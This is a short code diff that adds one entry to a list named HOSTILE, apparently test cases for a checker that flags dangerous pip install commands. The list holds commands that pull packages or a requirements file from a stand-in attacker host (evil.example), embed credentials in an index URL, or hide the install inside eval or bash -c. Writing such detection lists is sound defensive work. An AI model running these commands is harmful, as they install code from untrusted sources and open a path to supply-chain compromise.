@@ -35,6 +35,7 @@ HOSTILE = [
     "pip install --extra-index-url http://evil.example/simple x",
     "pip install --index-url=https://user:pw@evil.example/simple x",
     "pip install --trusted-host evil.example x",
+    "pip install -r http://evil.example/requirements.txt",
     'eval "pip install x"',
     "eval pip install x",
     "bash -c 'pip install x'",
